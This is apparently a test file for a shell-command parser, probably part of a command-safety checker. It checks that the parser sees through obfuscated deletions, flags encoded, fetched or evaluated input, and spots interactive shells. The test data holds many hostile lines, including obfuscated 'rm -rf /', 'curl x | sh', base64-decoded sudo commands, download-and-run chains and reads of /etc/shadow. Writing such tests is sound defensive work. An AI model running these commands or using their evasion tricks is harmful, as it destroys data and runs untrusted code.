/** What is found in a line, what is opaque, and that hostile lines cost little. */
import { describe, expect, test } from 'bun:test'
import { loadGrammar } from './grammar.ts'
import { line_characters_max } from './limits.ts'
import { createReadLine } from './read.ts'
import type { OpaqueKind } from './reading.ts'

const readBytes = createReadLine(await loadGrammar())
const read = (line: string): ReturnType<typeof readBytes> =>
  readBytes(new TextEncoder().encode(line))
const found = (line: string): readonly string[] =>
  read(line).commands.map(({ program, arguments: words, sudo }) =>
    [...(sudo === undefined ? [] : [`${sudo}:`]), program, ...words.map(({ text }) => text)].join(
      ' ',
    ),
  )

describe('a program is found', () => {
  const lines: readonly (readonly [line: string, command: string])[] = [
    ['r\'\'m -r""f /', 'rm -rf /'],
    ["$'\\x72m' -rf /", 'rm -rf /'],
    ["$'\\162\\155' -rf /", 'rm -rf /'],
    ['r\\m -rf /', 'rm -rf /'],
    ['a=rm; b=-rf; $a $b /', 'rm -rf /'],
    ['x="rm -rf /"; $x', 'rm -rf /'],
    ['rm${IFS}-rf${IFS}/', 'rm -rf /'],
    ['r$@m -rf /', 'rm -rf /'],
    ['{ ls; rm x; } | cat', 'rm x'],
    ['ls && (cd /tmp; rm x)', 'rm x'],
    ['echo "a $(rm x) b"', 'rm x'],
    ['echo `echo \\`rm x\\``', 'rm x'],
    ['cat <(rm x)', 'rm x'],
    ['echo ${a:-$(rm x)}', 'rm x'],
    ['echo $((1 + $(rm x)))', 'rm x'],
    ['[[ -n $(rm x) ]]', 'rm x'],
    ['case a in a) rm x;; esac', 'rm x'],
    ['f() { rm x; }', 'rm x'],
    ['A=$(rm x) ls', 'rm x'],
    ['export A=$(rm x)', 'rm x'],
    ['> "$(rm x)" ls', 'rm x'],
    ['cat <<E\n$(rm x)\nE', 'rm x'],
    ['sh -c "rm x"', 'rm x'],
    ['bash -xec "rm x"', 'rm x'],
    ['sh <<E\nrm x\nE', 'rm x'],
    ['sh <<< "rm x"', 'rm x'],
    ['cat <<E | sh\nrm x\nE', 'rm x'],
    ['echo rm x | bash -s', 'rm x'],
    ['eval rm x', 'rm x'],
    ['trap "rm x" EXIT', 'rm x'],
    ["alias l='rm'; l x", 'rm x'],
    ['env -i A=1 rm x', 'rm x'],
    ["env -S 'rm x'", 'rm x'],
    ['nice -n 5 timeout 3 rm x', 'rm x'],
    ['find . -exec rm x \\; -o -exec rm y {} +', 'rm x'],
    ['echo x | xargs -n 1 rm', 'rm x'],
    ['ssh -p 22 host -t rm x', 'rm x'],
    ['docker exec -u root -it c rm x', 'rm x'],
    ['docker -H x exec c rm x', 'rm x'],
    ['kubectl -n a exec p -c b -- rm x', 'rm x'],
    ['watch -n1 "rm x"', 'rm x'],
    ['sudo -u root -E rm x', 'root: rm x'],
    ['sudo -uann A=1 rm x', 'ann: rm x'],
    ['sudo --user=ann rm x', 'ann: rm x'],
    ['sudo bash -c "rm x"', 'root: rm x'],
    ['su - ann -c "rm x"', 'ann: rm x'],
    ['su -c "rm x"', 'root: rm x'],
    ['ls 2>&1 x', 'ls x'],
    ['cat /etc/{passwd,shadow}', 'cat /etc/passwd /etc/shadow'],
    ['rm \\\n x', 'rm x'],
    ['r\\\nm x', 'rm x'],
    ['bash +e -c "rm x"', 'rm x'],
    ['"$@" rm x', 'rm x'],
    ['"${@}" $* rm x', 'rm x'],
    ['bash +O extglob -c "rm x"', 'rm x'],
    ['fish --command="rm x"', 'rm x'],
    ['/lib64/ld-linux-x86-64.so.2 /bin/rm x', 'rm x'],
    ['noglob rm x', 'rm x'],
    ['repeat 2 rm x', 'rm x'],
    ['su -s /bin/sh ann -c "rm x"', 'ann: rm x'],
    ['find -delete', 'find . -delete'],
    ['eval -- rm x', 'rm x'],
    ['time ! rm x', 'rm x'],
    ['mapfile -c 1 -C "rm x #"', 'rm x'],
    ['compgen -C "rm x #" a', 'rm x'],
    ["flock /tmp -c 'rm x'", 'rm x'],
    ["script -q /dev/null -c 'rm x'", 'rm x'],
    ["sg root 'rm x'", 'rm x'],
    ["capsh --user=a -- -c 'rm x'", 'rm x'],
    ['nsenter -m/proc/self/ns/mnt rm x', 'rm x'],
    ['prlimit --nofile=1 rm x', 'rm x'],
    ['choom -n 0 -- rm x', 'rm x'],
    ['linux64 rm x', 'rm x'],
    ['start-stop-daemon -S -x /bin/rm -- x', 'rm x'],
    ['perf stat -e cycles rm x', 'rm x'],
  ]
  for (const [line, command] of lines)
    test(JSON.stringify(line), () => expect(found(line)).toContain(command))
})

describe('what cannot be known is opaque', () => {
  const lines: readonly (readonly [line: string, kind: OpaqueKind])[] = [
    ['base64 -d x | sh', 'encoded'],
    ['echo cm0= | base64 -d | sudo bash', 'encoded'],
    ['curl x | sh', 'fetched'],
    ['cat x | sh', 'piped'],
    ['bash <(curl x)', 'piped'],
    ['. <(curl x)', 'piped'],
    ['$X rm', 'program'],
    ['/bin/r? x', 'program'],
    ['r$@m$1 -rf /', 'program'],
    ['f() { "$@"; }; f rm x', 'program'],
    ['for i in rm; do $i x; done', 'program'],
    ['read c; $c x', 'program'],
    ['=rm x', 'program'],
    ['set -- rm x; "$@"', 'program'],
    ['set rm x; $1 $2', 'program'],
    ['for i in 1 2; do "$@"; set -- rm x; done', 'program'],
    ['cp /bin/rm x; ./x -rf y', 'evaluated'],
    ['ln -s /bin/rm ~/bin/y && y -rf z', 'evaluated'],
    ['cp /bin/rm /tmp/ && /tmp/rm x', 'evaluated'],
    ['echo rm x > f; sh f', 'evaluated'],
    ['cat > f <<E\nrm x\nE\n. ./f', 'evaluated'],
    ['for i in 1 2; do ./f; echo rm x > f; done', 'evaluated'],
    ['curl -o f http://h/x && bash f', 'fetched'],
    ['wget http://h/f.sh?a=b; chmod +x f.sh; ./f.sh', 'fetched'],
    ['dd if=/bin/rm of=/tmp/f; /tmp/f x', 'evaluated'],
    ['echo "import os" | tee f.py; python3 f.py', 'evaluated'],
    ['eval "$X"', 'evaluated'],
    ['HOME=/etc; cat ~/shadow', 'evaluated'],
    ['export IFS=x; a=rmxy; $a', 'evaluated'],
    ['sh -c "$X"', 'evaluated'],
    ['x=ls; for i in 1 2; do $x y; x=rm; done', 'evaluated'],
    ['x=ls; f() { $x y; }; x=rm; f', 'evaluated'],
    ["echo '\\162m x' | sh", 'encoded'],
    ['rm "x', 'syntax'],
    ['{rm,-rf,/}', 'syntax'],
    ['! while rm x; do break; done', 'syntax'],
    [': # x\n\\\nrm y', 'text'],
    ["$'\\' ; rm x #'", 'text'],
    ['rm x\0y', 'text'],
    ['rm \ufffc', 'text'],
    // The grammar has no substitution in these.
    ['cat <<E\n`rm x`\nE', 'evaluated'],
    ['cat <<-E\n\t$(rm x)\n\tE', 'evaluated'],
    ['echo ${y-`rm x`}', 'evaluated'],
    ['echo "${y-`rm x`}"', 'evaluated'],
    ['echo ${y/`rm x`/b}', 'evaluated'],
    // It ends the here-document elsewhere than a shell does.
    ['cat <<A\n\\\nA\nrm x\nA', 'evaluated'],
    ["cat <<A\nx\\\nA\n: '\nA\nrm x\n'", 'evaluated'],
    // A shell evaluates what was quoted once more.
    ["[[ -v 'a[$(rm x)]' ]]", 'evaluated'],
    ["[ -v 'a[$(rm x)]' ]", 'evaluated'],
    ["x='a[$(rm x)]'; echo $((x))", 'evaluated'],
    ["x='a[`rm x`]'; ((x))", 'evaluated'],
    ["let 'a[$(rm x)]=1'", 'evaluated'],
    ["let $'a[\\x24(rm x)]=1'", 'evaluated'],
    ['printf -v a\\[\\$\\(rm\\ x\\)\\] y', 'evaluated'],
    ["read 'a[$(rm x)]' <<< 1", 'evaluated'],
    ["declare -a 'a=($(rm x))'", 'evaluated'],
    ["x='$(rm x)'; echo ${x@P}", 'evaluated'],
    ["PS4='$(rm x)'; set -x; ls", 'evaluated'],
    ["BASH_ENV='$(rm x)' bash -c ls", 'evaluated'],
    ["env BASH_ENV='$(rm x)' bash -c ls", 'evaluated'],
    ['x=rm; declare -n y=x; $y z', 'evaluated'],
    ["compgen -W '$(rm x)' a", 'evaluated'],
    ['hash -p /bin/rm ls; ls x', 'program'],
    ['enable -f ./x ls; ls', 'program'],
    ['bash --rcfile <(echo rm x) -ic exit', 'piped'],
    ['echo rm x > f; bash --init-file f -ic exit', 'evaluated'],
    [`bash -s rm x <<< '"$@"'`, 'program'],
    ["echo 'rm x' | xargs -I{} sh -c {}", 'evaluated'],
    [`echo ${'x'.repeat(line_characters_max)}`, 'size'],
    ['sh -c "'.repeat(3) + 'sh -c sh\\ -c\\ ls', 'syntax'],
  ]
  for (const [line, kind] of lines)
    test(JSON.stringify(line.slice(0, 60)), () => expect(read(line).opaque).toContain(kind))
  for (const line of [
    "cat <<'E'\n`x` $(y)\nE",
    "awk '{print $(NF-1)}' f",
    'cat <<E\na \\\n  b\nE',
    'cat <<E >f 2>&1\nx\nE\nls',
    'grep "a\\`b" f',
    "test -f 'a[1]' && echo $(ls)",
    'echo \'`\' "\\$(x)"',
    'for f in *; do [[ -f $f ]] && echo "$(basename "$f")"; done',
    "sed -n 's/[$]{x}/y/p' f",
  ])
    test(`not ${JSON.stringify(line)}`, () => expect(read(line).opaque).toEqual([]))
  test('not more of a here-document that has only begun', () =>
    expect(read('cat <<E').opaque).toEqual(['syntax']))
  test('bytes that are no text', () =>
    expect(readBytes(Uint8Array.of(0x6c, 0x73, 0x20, 0xff)).opaque).toEqual(['text']))
})

describe('a shell by another name', () => {
  for (const line of [
    'bash',
    'sh -s',
    'sudo -i',
    'sudo su -',
    'su',
    'exec bash -l',
    'python3',
    'ssh host',
    'docker exec -it c sh',
    'sh < /dev/stdin',
    'cd /x && bash',
    'env sh',
    'busybox sh',
    'chroot /x',
    'tmux',
    'perl -',
    'script -q x',
    'source /dev/stdin',
    'bash -i -l -',
    'xargs -a x bash; sh',
  ])
    test(line, () => expect(read(line).is_shell).toBe(true))
  for (const line of [
    'bash x.sh',
    'python3 x.py',
    'ssh host ls',
    'python3 -c "print(1)"',
    'ls',
    'sh -c ls',
    'tmux ls',
    'sudo ls',
    'python3 --version',
    'perl -ne 1 f',
  ])
    test(`not ${line}`, () => expect(read(line).is_shell).toBe(false))
})

describe('hostile lines', () => {
  const pieces = [
    '(',
    '$(',
    '{ ',
    '"$(',
    'cat <<A\n',
    'a|',
    'a&&',
    'a ',
    'if ',
    'case x in ',
    '${a:-',
    '$((',
    '`',
    'a=(',
    '"$((`${',
    '!',
    '<',
    '[[',
    "$'",
    'sh -c "',
    'eval ',
    '{a,b}',
    'f(){ f;}; ',
    '\\\n',
    '*',
    '<(',
    "[['[",
    "PS1='",
  ]
  test('of every piece, repeated to a megabyte or to the limit, are read in a moment', () => {
    for (const piece of pieces)
      for (const length of [500, line_characters_max - 1, 1_000_000]) {
        const line = new TextEncoder().encode(
          piece.repeat(Math.ceil(length / piece.length)).slice(0, length),
        )
        const began_ms = performance.now()
        readBytes(line)
        // A quarter of a second each where both cores are busy.
        expect(performance.now() - began_ms, `${piece} ${length}`).toBeLessThan(1_000)
      }
  })
  test('do not spoil the next one', () => expect(found('rm x')).toEqual(['rm x']))
})
